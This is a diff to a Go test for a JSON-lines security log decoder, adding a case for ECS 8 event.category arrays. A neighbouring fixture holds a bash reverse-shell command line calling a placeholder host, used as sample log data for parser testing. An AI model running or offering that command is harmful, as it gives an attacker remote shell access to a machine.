@@ -110,6 +110,13 @@ func TestDecode(t *testing.T) {
 				User: "bob", Extra: kv("attempts", "3", "locked", "false", "path", "C:\\tempé😀")},
 		},
 		{
+			// ECS 8 event.category is an array (ECS reference, "event.category").
+			name: "ecs category array",
+			line: `{"@timestamp":"2025-05-19T03:12:44Z","event":{"category":["authentication","network"],"outcome":"failure"},"user":{"name":"root"},"source":{"ip":"198.51.100.23"}}`,
+			want: event.Event{Time: ts("2025-05-19T03:12:44Z"), Kind: event.KindAuth, Dataset: "jsonl", Outcome: event.OutcomeFailure,
+				User: "root", SourceIP: "198.51.100.23", Extra: kv("event.category", `["authentication","network"]`)},
+		},
+		{
 			name: "process and lower-ranked time kept",
 			line: `{"timestamp":"2025-05-19 03:12:44","@timestamp":"2025-05-19T03:12:45Z","process":{"command_line":"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1","pid":"4242"}}`,
 			want: event.Event{Time: ts("2025-05-19T03:12:45Z"), Kind: event.KindProcess, Dataset: "jsonl",
